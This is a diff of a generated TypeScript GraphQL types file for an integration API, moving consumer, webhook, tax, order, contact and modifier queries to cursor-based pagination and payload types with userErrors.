-export type MgmtConsumerQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', id: string, name: string, email?: string | null, internalReference?: string | null, redirectUrl?: string | null, connections: Array<{ __typename?: 'Connection', id: string, name: string, integration: string, integrationId: number, api: Api, status: ConnectionStatus, data: unknown }> } };
+export type MgmtConsumerQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', id: string, name: string, email?: string | null, internalReference?: string | null, redirectUrl?: string | null, connections: Array<{ __typename?: 'Connection', id: string, name: string, integration: string, integrationId: number, api: Api, status: ConnectionStatus, data: unknown }> } | null };
 
 export type MgmtCreateConsumerMutationVariables = Exact<{
   input: CreateConsumerInput;
 }>;
 
 
-export type MgmtCreateConsumerMutation = { __typename?: 'Mutation', createConsumer: { __typename?: 'Consumer', id: string, name: string, email?: string | null, internalReference?: string | null, redirectUrl?: string | null } };
+export type MgmtCreateConsumerMutation = { __typename?: 'Mutation', createConsumer: { __typename?: 'CreateConsumerPayload', consumer?: { __typename?: 'Consumer', id: string, name: string, email?: string | null, internalReference?: string | null, redirectUrl?: string | null } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type MgmtCreateConnectionMutationVariables = Exact<{
-  consumerId: Scalars['ID']['input'];
   input: CreateConnectionInput;
 }>;
 
 
-export type MgmtCreateConnectionMutation = { __typename?: 'Mutation', createConnection: { __typename?: 'Connection', id: string, name: string, integration: string, integrationId: number, api: Api, status: ConnectionStatus, data: unknown } };
+export type MgmtCreateConnectionMutation = { __typename?: 'Mutation', createConnection: { __typename?: 'CreateConnectionPayload', connectUrl?: string | null, connection?: { __typename?: 'Connection', id: string, name: string, integration: string, integrationId: number, api: Api, status: ConnectionStatus, data: unknown } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type MgmtIntegrationsQueryVariables = Exact<{ [key: string]: never; }>;
 
@@ -1580,63 +1980,61 @@ export type MgmtIntegrationsQuery = { __typename?: 'Query', integrations: Array<
 export type MgmtWebhooksQueryVariables = Exact<{ [key: string]: never; }>;
 
 
-export type MgmtWebhooksQuery = { __typename?: 'Query', webhooks: Array<{ __typename?: 'Webhook', id: string, accountId: string, createdOn: string, event: WebhookEvent, url: string, status: WebhookStatus, createdBy: string, integrationId?: number | null }> };
+export type MgmtWebhooksQuery = { __typename?: 'Query', webhooks?: { __typename?: 'WebhookConnection', totalCount: number, nodes: Array<{ __typename?: 'Webhook', id: string, accountId: string, createdOn: string, event: WebhookEvent, url: string, status: WebhookStatus, createdBy: string, integrationId?: number | null }> } | null };
 
 export type MgmtWebhookQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type MgmtWebhookQuery = { __typename?: 'Query', webhook: { __typename?: 'Webhook', id: string, accountId: string, createdOn: string, event: WebhookEvent, url: string, status: WebhookStatus, createdBy: string, integrationId?: number | null } };
+export type MgmtWebhookQuery = { __typename?: 'Query', webhook?: { __typename?: 'Webhook', id: string, accountId: string, createdOn: string, event: WebhookEvent, url: string, status: WebhookStatus, createdBy: string, integrationId?: number | null } | null };
 
 export type MgmtWebhookLogsQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type MgmtWebhookLogsQuery = { __typename?: 'Query', webhook: { __typename?: 'Webhook', id: string, logs: Array<{ __typename?: 'WebhookLog', id: string, webhookId: string, event: WebhookEvent, url: string, accountId: string, createdOn: string, httpStatus: number, integrationId?: number | null }> } };
+export type MgmtWebhookLogsQuery = { __typename?: 'Query', webhook?: { __typename?: 'Webhook', id: string, logs?: { __typename?: 'WebhookLogConnection', totalCount: number, nodes: Array<{ __typename?: 'WebhookLog', id: string, webhookId: string, event: WebhookEvent, url: string, accountId: string, createdOn: string, httpStatus: number, integrationId?: number | null }> } | null } | null };
 
 export type MgmtWebhookEventTypesQueryVariables = Exact<{ [key: string]: never; }>;
 
 
-export type MgmtWebhookEventTypesQuery = { __typename?: 'Query', webhookEventTypes: Array<{ __typename?: 'WebhookEventType', event: WebhookEvent, api: Api }> };
+export type MgmtWebhookEventTypesQuery = { __typename?: 'Query', webhookEventTypes: Array<{ __typename?: 'WebhookEventType', event: WebhookEvent, name: string, api: Api }> };
 
 export type MgmtCreateWebhookMutationVariables = Exact<{
   input: CreateWebhookInput;
 }>;
 
 
-export type MgmtCreateWebhookMutation = { __typename?: 'Mutation', createWebhook: { __typename?: 'Webhook', id: string, accountId: string, createdOn: string, event: WebhookEvent, url: string, status: WebhookStatus, createdBy: string, integrationId?: number | null } };
+export type MgmtCreateWebhookMutation = { __typename?: 'Mutation', createWebhook: { __typename?: 'CreateWebhookPayload', webhook?: { __typename?: 'Webhook', id: string, accountId: string, createdOn: string, event: WebhookEvent, url: string, status: WebhookStatus, createdBy: string, integrationId?: number | null } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type MgmtUpdateWebhookMutationVariables = Exact<{
-  id: Scalars['ID']['input'];
   input: UpdateWebhookInput;
 }>;
 
 
-export type MgmtUpdateWebhookMutation = { __typename?: 'Mutation', updateWebhook: { __typename?: 'Webhook', id: string, accountId: string, createdOn: string, event: WebhookEvent, url: string, status: WebhookStatus, createdBy: string, integrationId?: number | null } };
+export type MgmtUpdateWebhookMutation = { __typename?: 'Mutation', updateWebhook: { __typename?: 'UpdateWebhookPayload', webhook?: { __typename?: 'Webhook', id: string, accountId: string, createdOn: string, event: WebhookEvent, url: string, status: WebhookStatus, createdBy: string, integrationId?: number | null } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type MgmtDeleteWebhookMutationVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type MgmtDeleteWebhookMutation = { __typename?: 'Mutation', deleteWebhook: boolean };
+export type MgmtDeleteWebhookMutation = { __typename?: 'Mutation', deleteWebhook: { __typename?: 'DeleteWebhookPayload', deletedId?: string | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type OpsConsumersQueryVariables = Exact<{
   search?: InputMaybe<Scalars['String']['input']>;
 }>;
 
 
-export type OpsConsumersQuery = { __typename?: 'Query', consumers: Array<{ __typename?: 'Consumer', id: string }> };
+export type OpsConsumersQuery = { __typename?: 'Query', consumers?: { __typename?: 'ConsumerConnection', totalCount: number, nodes: Array<{ __typename?: 'Consumer', id: string }> } | null };
 
 export type OpsUpdateWebhookMutationVariables = Exact<{
-  id: Scalars['ID']['input'];
   input: UpdateWebhookInput;
 }>;
 
 
-export type OpsUpdateWebhookMutation = { __typename?: 'Mutation', updateWebhook: { __typename?: 'Webhook', id: string } };
+export type OpsUpdateWebhookMutation = { __typename?: 'Mutation', updateWebhook: { __typename?: 'UpdateWebhookPayload', webhook?: { __typename?: 'Webhook', id: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type ServiceIntegrationsQueryVariables = Exact<{ [key: string]: never; }>;
 
@@ -1648,7 +2046,7 @@ export type ServiceDemoConsumerQueryVariables = Exact<{
 }>;
 
 
-export type ServiceDemoConsumerQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', id: string, name: string, connections: Array<{ __typename?: 'Connection', integrationId: number, api: Api, status: ConnectionStatus }>, invoicing: { __typename?: 'Invoicing', taxes: { __typename?: 'TaxCodePage', total: number, page: number, size: number, items: Array<{ __typename?: 'TaxCode', id: string, rate: number, type: TaxType }> } } } };
+export type ServiceDemoConsumerQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', id: string, name: string, connections: Array<{ __typename?: 'Connection', integrationId: number, api: Api, status: ConnectionStatus }>, invoicing: { __typename?: 'Invoicing', taxes?: { __typename?: 'TaxCodeConnection', totalCount: number, pageInfo: { __typename?: 'PageInfo', hasNextPage: boolean }, nodes: Array<{ __typename?: 'TaxCode', id: string, remoteId: string, rate: number, type: TaxType }> } | null } } | null };
 
 export type TrustedIntegrationsQueryVariables = Exact<{ [key: string]: never; }>;
 
@@ -1658,12 +2056,12 @@ export type TrustedIntegrationsQuery = { __typename?: 'Query', integrations: Arr
 export type TokConsumersQueryVariables = Exact<{ [key: string]: never; }>;
 
 
-export type TokConsumersQuery = { __typename?: 'Query', consumers: Array<{ __typename?: 'Consumer', id: string }> };
+export type TokConsumersQuery = { __typename?: 'Query', consumers?: { __typename?: 'ConsumerConnection', totalCount: number, nodes: Array<{ __typename?: 'Consumer', id: string }> } | null };
 
 export type MewsOrdersQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
   state?: InputMaybe<PmsOrderState>;
   from?: InputMaybe<Scalars['Date']['input']>;
   to?: InputMaybe<Scalars['Date']['input']>;
@@ -1671,140 +2069,137 @@ export type MewsOrdersQueryVariables = Exact<{
 }>;
 
 
-export type MewsOrdersQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pms: { __typename?: 'Pms', orders: { __typename?: 'PmsOrderPage', total: number, page: number, size: number, items: Array<{ __typename?: 'PmsOrder', id: string, creationDate: string, closingDate?: string | null, serviceDate?: string | null, total: number, taxAmount: number, orderNumber?: string | null, totalDiscount: number, currency?: string | null, country?: string | null, customerId?: string | null, locationId?: string | null, guests?: number | null, serviceId?: string | null, mode?: PmsOrderMode | null, source?: PmsOrderSource | null, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null }, taxes: Array<{ __typename?: 'PmsOrderTax', id?: string | null, name?: string | null, rate?: number | null, amount: number, taxId?: string | null, taxRate: number, taxAmount: number, total: number }>, items: Array<{ __typename?: 'PmsOrderItem', id: string, quantity: number, unitPrice: number, total: number, taxAmount: number, type?: PmsOrderItemType | null, taxRate?: number | null, taxId?: string | null, description?: string | null, productId?: string | null, accountingCategoryId?: string | null, discounts: Array<{ __typename?: 'PmsDiscount', id?: string | null, name?: string | null, amount: number, total: number, type?: PmsDiscountType | null }> }>, reservation?: { __typename?: 'PmsReservation', id: string, startDate?: string | null, endDate?: string | null, creationDate?: string | null, resourceName?: string | null, resourceIdentifier?: string | null, resourceId?: { __typename?: 'PmsResource', id: string, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null } } | null } | null, bills: Array<{ __typename?: 'PmsBill', id: string, invoiceNumber?: string | null, creationDate?: string | null, closingDate?: string | null, partners: Array<{ __typename?: 'PmsPartner', id: string, type: PmsPartnerType, companyName?: string | null, firstName?: string | null, lastName?: string | null, address?: { __typename?: 'PmsAddress', name?: string | null, street?: string | null, city?: string | null, postalCode?: string | null, country?: string | null } | null }> }> }> } } } };
+export type MewsOrdersQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pms: { __typename?: 'Pms', orders?: { __typename?: 'PmsOrderConnection', totalCount: number, pageInfo: { __typename?: 'PageInfo', hasNextPage: boolean }, nodes: Array<{ __typename?: 'PmsOrder', id: string, remoteId: string, creationDate: string, closingDate?: string | null, serviceDate?: string | null, total: number, taxAmount: number, orderNumber?: string | null, totalDiscount: number, currency?: string | null, country?: string | null, customerId?: string | null, locationId?: string | null, guests?: number | null, serviceId?: string | null, mode?: PmsOrderMode | null, source?: PmsOrderSource | null, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null }, taxes: Array<{ __typename?: 'PmsOrderTax', name?: string | null, rate?: number | null, amount: number, taxId?: string | null, taxRate: number, taxAmount: number, total: number }>, items: Array<{ __typename?: 'PmsOrderItem', remoteId: string, quantity: number, unitPrice: number, total: number, taxAmount: number, type?: PmsOrderItemType | null, taxRate?: number | null, taxId?: string | null, description?: string | null, productId?: string | null, accountingCategoryId?: string | null, discounts: Array<{ __typename?: 'PmsDiscount', remoteId?: string | null, name?: string | null, amount: number, total: number, type?: PmsDiscountType | null }> }>, reservation?: { __typename?: 'PmsReservation', remoteId: string, startDate?: string | null, endDate?: string | null, creationDate?: string | null, resourceName?: string | null, resourceIdentifier?: string | null, resourceId?: { __typename?: 'PmsResource', remoteId: string, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null } } | null } | null, bills: Array<{ __typename?: 'PmsBill', remoteId: string, invoiceNumber?: string | null, creationDate?: string | null, closingDate?: string | null, partners: Array<{ __typename?: 'PmsPartner', remoteId: string, type: PmsPartnerType, companyName?: string | null, firstName?: string | null, lastName?: string | null, address?: { __typename?: 'PmsAddress', name?: string | null, street?: string | null, city?: string | null, postalCode?: string | null, country?: string | null } | null }> }> }> } | null } } | null };
 
 export type MewsTaxesFailureQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type MewsTaxesFailureQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pms: { __typename?: 'Pms', taxes: { __typename?: 'PmsTaxRatePage', total: number } } } };
+export type MewsTaxesFailureQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', name: string, pms: { __typename?: 'Pms', taxes?: { __typename?: 'PmsTaxRateConnection', totalCount: number } | null } } | null };
 
 export type MewsTaxesQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
 }>;
 
 
-export type MewsTaxesQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pms: { __typename?: 'Pms', taxes: { __typename?: 'PmsTaxRatePage', total: number, page: number, size: number, items: Array<{ __typename?: 'PmsTaxRate', id: string, label: string, rate: number, isCityTax: boolean, raw?: unknown | null, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null } }> } } } };
+export type MewsTaxesQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pms: { __typename?: 'Pms', taxes?: { __typename?: 'PmsTaxRateConnection', totalCount: number, pageInfo: { __typename?: 'PageInfo', hasNextPage: boolean, endCursor?: string | null }, nodes: Array<{ __typename?: 'PmsTaxRate', id: string, remoteId: string, label: string, rate: number, isCityTax: boolean, raw?: unknown | null, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null } }> } | null } } | null };
 
-export type OdooThreeContactsQueryVariables = Exact<{
+export type OdooFourContactsQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type OdooThreeContactsQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', a: { __typename?: 'Contact', id: string, companyName?: string | null, addresses?: Array<{ __typename?: 'InvoicingAddress', addressType: InvoicingAddressType }> | null }, b: { __typename?: 'Contact', id: string, firstName?: string | null, companyId?: string | null }, c: { __typename?: 'Contact', id: string, isSupplier?: boolean | null } } } };
+export type OdooFourContactsQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', a?: { __typename?: 'Contact', remoteId: string, companyName?: string | null, addresses?: Array<{ __typename?: 'InvoicingAddress', addressType: InvoicingAddressType }> | null } | null, b?: { __typename?: 'Contact', remoteId: string, firstName?: string | null, companyId?: string | null } | null, c?: { __typename?: 'Contact', remoteId: string, isSupplier?: boolean | null } | null, d?: { __typename?: 'Contact', remoteId: string } | null } } | null };
 
 export type OdooCreateProductMutationVariables = Exact<{
-  id: Scalars['ID']['input'];
   input: CreateProductInput;
 }>;
 
 
-export type OdooCreateProductMutation = { __typename?: 'Mutation', createProduct: { __typename?: 'Product', id: string, name: string, unitPrice?: number | null, taxId?: string | null, code?: string | null, unit?: string | null, category?: string | null, currency?: string | null, description?: string | null, cost?: number | null, availableQuantity: number, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null } } };
+export type OdooCreateProductMutation = { __typename?: 'Mutation', createProduct: { __typename?: 'CreateProductPayload', product?: { __typename?: 'Product', id: string, remoteId: string, name: string, unitPrice?: number | null, taxId?: string | null, code?: string | null, unit?: string | null, category?: string | null, currency?: string | null, description?: string | null, cost?: number | null, availableQuantity: number, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null } } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type SquareModifiersErrorQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type SquareModifiersErrorQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pos: { __typename?: 'Pos', modifiers: { __typename?: 'ModifierGroupPage', total: number } } } };
+export type SquareModifiersErrorQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', id: string, pos: { __typename?: 'Pos', modifiers?: { __typename?: 'ModifierGroupConnection', totalCount: number } | null } } | null };
 
 export type SquareModifiersQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
   location?: InputMaybe<Scalars['String']['input']>;
 }>;
 
 
-export type SquareModifiersQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pos: { __typename?: 'Pos', modifiers: { __typename?: 'ModifierGroupPage', total: number, page: number, size: number, items: Array<{ __typename?: 'ModifierGroup', id: string, name: string, raw?: unknown | null, options: Array<{ __typename?: 'ModifierOption', id: string, name: string, price: number }> }> } } } };
+export type SquareModifiersQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pos: { __typename?: 'Pos', modifiers?: { __typename?: 'ModifierGroupConnection', totalCount: number, nodes: Array<{ __typename?: 'ModifierGroup', remoteId: string, name: string, raw?: unknown | null, options: Array<{ __typename?: 'ModifierOption', remoteId: string, name: string, price: number }> }>, pageInfo: { __typename?: 'PageInfo', hasNextPage: boolean } } | null } } | null };
 
 export type ErrConsumerQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type ErrConsumerQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', id: string, name: string } };
+export type ErrConsumerQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', id: string, name: string } | null };
 
 export type ErrConsumersQueryVariables = Exact<{ [key: string]: never; }>;
 
 
-export type ErrConsumersQuery = { __typename?: 'Query', consumers: Array<{ __typename?: 'Consumer', id: string }> };
+export type ErrConsumersQuery = { __typename?: 'Query', consumers?: { __typename?: 'ConsumerConnection', nodes: Array<{ __typename?: 'Consumer', id: string }> } | null };
 
 export type ErrCreateConsumerMutationVariables = Exact<{
   input: CreateConsumerInput;
 }>;
 
 
-export type ErrCreateConsumerMutation = { __typename?: 'Mutation', createConsumer: { __typename?: 'Consumer', id: string } };
+export type ErrCreateConsumerMutation = { __typename?: 'Mutation', createConsumer: { __typename?: 'CreateConsumerPayload', consumer?: { __typename?: 'Consumer', id: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type ErrTaxesQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type ErrTaxesQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', taxes: { __typename?: 'TaxCodePage', total: number, items: Array<{ __typename?: 'TaxCode', id: string }> } } } };
+export type ErrTaxesQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', taxes?: { __typename?: 'TaxCodeConnection', totalCount: number, nodes: Array<{ __typename?: 'TaxCode', remoteId: string }> } | null } } | null };
 
 export type ErrOpportunitiesQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type ErrOpportunitiesQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', opportunities: { __typename?: 'OpportunityPage', total: number } } } };
+export type ErrOpportunitiesQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', opportunities?: { __typename?: 'OpportunityConnection', totalCount: number } | null } } | null };
 
 export type ErrContactQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  contact: Scalars['ID']['input'];
+  contact: Scalars['String']['input'];
 }>;
 
 
-export type ErrContactQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', contact: { __typename?: 'Contact', id: string } } } };
+export type ErrContactQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', contact?: { __typename?: 'Contact', remoteId: string } | null } } | null };
 
 export type ErrModifiersQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type ErrModifiersQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pos: { __typename?: 'Pos', modifiers: { __typename?: 'ModifierGroupPage', total: number } } } };
+export type ErrModifiersQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pos: { __typename?: 'Pos', modifiers?: { __typename?: 'ModifierGroupConnection', totalCount: number } | null } } | null };
 
 export type ErrCreateProductMutationVariables = Exact<{
-  id: Scalars['ID']['input'];
   input: CreateProductInput;
 }>;
 
 
-export type ErrCreateProductMutation = { __typename?: 'Mutation', createProduct: { __typename?: 'Product', id: string, name: string } };
+export type ErrCreateProductMutation = { __typename?: 'Mutation', createProduct: { __typename?: 'CreateProductPayload', product?: { __typename?: 'Product', remoteId: string, name: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type ErrCreateWebhookMutationVariables = Exact<{
   input: CreateWebhookInput;
 }>;
 
 
-export type ErrCreateWebhookMutation = { __typename?: 'Mutation', createWebhook: { __typename?: 'Webhook', id: string } };
+export type ErrCreateWebhookMutation = { __typename?: 'Mutation', createWebhook: { __typename?: 'CreateWebhookPayload', webhook?: { __typename?: 'Webhook', id: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type ErrWebhookQueryVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type ErrWebhookQuery = { __typename?: 'Query', webhook: { __typename?: 'Webhook', id: string } };
+export type ErrWebhookQuery = { __typename?: 'Query', webhook?: { __typename?: 'Webhook', id: string } | null };
 
 export type ErrUpdateWebhookMutationVariables = Exact<{
-  id: Scalars['ID']['input'];
   input: UpdateWebhookInput;
 }>;
 
 
-export type ErrUpdateWebhookMutation = { __typename?: 'Mutation', updateWebhook: { __typename?: 'Webhook', id: string } };
+export type ErrUpdateWebhookMutation = { __typename?: 'Mutation', updateWebhook: { __typename?: 'UpdateWebhookPayload', webhook?: { __typename?: 'Webhook', id: string } | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type ErrDeleteWebhookMutationVariables = Exact<{
   id: Scalars['ID']['input'];
 }>;
 
 
-export type ErrDeleteWebhookMutation = { __typename?: 'Mutation', deleteWebhook: boolean };
+export type ErrDeleteWebhookMutation = { __typename?: 'Mutation', deleteWebhook: { __typename?: 'DeleteWebhookPayload', deletedId?: string | null, userErrors: Array<{ __typename?: 'UserError', code: UserErrorCode, field?: Array<string> | null, message: string }> } };
 
 export type ErrIntegrationsQueryVariables = Exact<{ [key: string]: never; }>;
 
@@ -1813,53 +2208,53 @@ export type ErrIntegrationsQuery = { __typename?: 'Query', integrations: Array<{
 
 export type ParityTaxesQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
 }>;
 
 
-export type ParityTaxesQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', taxes: { __typename?: 'TaxCodePage', total: number, page: number, size: number, items: Array<{ __typename?: 'TaxCode', id: string, label: string, rate: number, type: TaxType, code?: string | null, scope?: TaxScope | null, active?: boolean | null, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null } }> } } } };
+export type ParityTaxesQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', taxes?: { __typename?: 'TaxCodeConnection', totalCount: number, nodes: Array<{ __typename?: 'TaxCode', remoteId: string, label: string, rate: number, type: TaxType, code?: string | null, scope?: TaxScope | null, active?: boolean | null, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null } }>, pageInfo: { __typename?: 'PageInfo', hasNextPage: boolean, endCursor?: string | null } } | null } } | null };
 
 export type ParityOpportunitiesQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
 }>;
 
 
-export type ParityOpportunitiesQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', opportunities: { __typename?: 'OpportunityPage', total: number, page: number, size: number, items: Array<{ __typename?: 'Opportunity', id: string, name: string, total: number, probability: number, status: OpportunityStatus, partnerId?: string | null, comment?: string | null, currency?: string | null, description?: string | null, pipeStatus?: string | null, pipeName?: string | null, createdDate?: string | null, dueDate?: string | null, endDate?: string | null, isWon: boolean, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null }, ownerRef?: { __typename?: 'OwnerRef', id?: string | null, model?: string | null, name?: string | null } | null }> } } } };
+export type ParityOpportunitiesQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', opportunities?: { __typename?: 'OpportunityConnection', totalCount: number, nodes: Array<{ __typename?: 'Opportunity', remoteId: string, name: string, total: number, probability: number, status: OpportunityStatus, partnerId?: string | null, comment?: string | null, currency?: string | null, description?: string | null, pipeStatus?: string | null, pipeName?: string | null, createdDate?: string | null, dueDate?: string | null, endDate?: string | null, isWon: boolean, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null }, ownerRef?: { __typename?: 'OwnerRef', remoteId?: string | null, model?: string | null, name?: string | null } | null }> } | null } } | null };
 
 export type ParityContactQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  contact: Scalars['ID']['input'];
+  contact: Scalars['String']['input'];
 }>;
 
 
-export type ParityContactQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', contact: { __typename?: 'Contact', id: string, isProspect?: boolean | null, isCustomer?: boolean | null, isSupplier?: boolean | null, isCompany?: boolean | null, companyName?: string | null, firstName?: string | null, lastName?: string | null, email?: string | null, phone?: string | null, mobile?: string | null, companyId?: string | null, vat?: string | null, companyNumber?: string | null, currency?: string | null, language?: string | null, comment?: string | null, customerAccountNumber?: string | null, supplierAccountNumber?: string | null, birthdate?: string | null, gender?: Gender | null, externalReference?: string | null, sourceRef: { __typename?: 'Ref', id?: string | null, model?: string | null }, addresses?: Array<{ __typename?: 'InvoicingAddress', addressType: InvoicingAddressType, name?: string | null, phone?: string | null, mobile?: string | null, email?: string | null, street?: string | null, number?: string | null, box?: string | null, city?: string | null, postalCode?: string | null, country?: string | null }> | null } } } };
+export type ParityContactQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', invoicing: { __typename?: 'Invoicing', contact?: { __typename?: 'Contact', remoteId: string, isProspect?: boolean | null, isCustomer?: boolean | null, isSupplier?: boolean | null, isCompany?: boolean | null, companyName?: string | null, firstName?: string | null, lastName?: string | null, email?: string | null, phone?: string | null, mobile?: string | null, companyId?: string | null, vat?: string | null, companyNumber?: string | null, currency?: string | null, language?: string | null, comment?: string | null, customerAccountNumber?: string | null, supplierAccountNumber?: string | null, birthdate?: string | null, gender?: Gender | null, externalReference?: string | null, sourceRef: { __typename?: 'Ref', remoteId?: string | null, model?: string | null }, addresses?: Array<{ __typename?: 'InvoicingAddress', addressType: InvoicingAddressType, name?: string | null, phone?: string | null, mobile?: string | null, email?: string | null, street?: string | null, number?: string | null, box?: string | null, city?: string | null, postalCode?: string | null, country?: string | null }> | null } | null } } | null };
 
 export type ParityModifiersQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
   location?: InputMaybe<Scalars['String']['input']>;
 }>;
 
 
-export type ParityModifiersQuery = { __typename?: 'Query', consumer: { __typename?: 'Consumer', pos: { __typename?: 'Pos', modifiers: { __typename?: 'ModifierGroupPage', total: number, page: number, size: number, items: Array<{ __typename?: 'ModifierGroup', id: string, name: string, options: Array<{ __typename?: 'ModifierOption', id: string, name: string, price: number }> }> } } } };
+export type ParityModifiersQuery = { __typename?: 'Query', consumer?: { __typename?: 'Consumer', pos: { __typename?: 'Pos', modifiers?: { __typename?: 'ModifierGroupConnection', totalCount: number, nodes: Array<{ __typename?: 'ModifierGroup', remoteId: string, name: string, options: Array<{ __typename?: 'ModifierOption', remoteId: string, name: string, price: number }> }> } | null } } | null };
 
 export type ParityPmsTaxesQueryVariables = Exact<{
   id: Scalars['ID']['input'];
-  page?: InputMaybe<Scalars['Int']['input']>;
-  size?: InputMaybe<Scalars['Int']['input']>;
+  first?: InputMaybe<Scalars['Int']['input']>;
+  after?: InputMaybe<Scalars['String']['input']>;
 }>;
 
 
